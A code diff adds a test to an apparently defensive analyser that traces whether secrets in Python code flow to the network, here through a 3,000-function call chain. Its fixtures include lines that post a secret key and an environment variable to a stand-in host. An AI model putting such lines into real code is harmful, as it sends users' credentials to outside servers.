@@ -45,6 +45,15 @@ describe('flows in Python', () => {
     expect(await flowsIn(SECRET + code)).toContain('secret > network');
   });
 
+  it('go through a chain of calls of any length', async () => {
+    const links = Array.from(
+      { length: 3_000 },
+      (_each, index) => `def f${index}(x):\n  return f${index + 1}(x)\n`,
+    );
+    const code = `${SECRET}${links.join('')}def f3000(x):\n  return x\nrequests.post("https://h.example", data=f0(key))`;
+    expect(await flowsIn(code)).toContain('secret > network');
+  });
+
   it('tell a header from a body', async () => {
     const flows = await flowsIn(
       'import os, requests\nrequests.post("https://h.example", headers={"a": os.environ["K"]})',
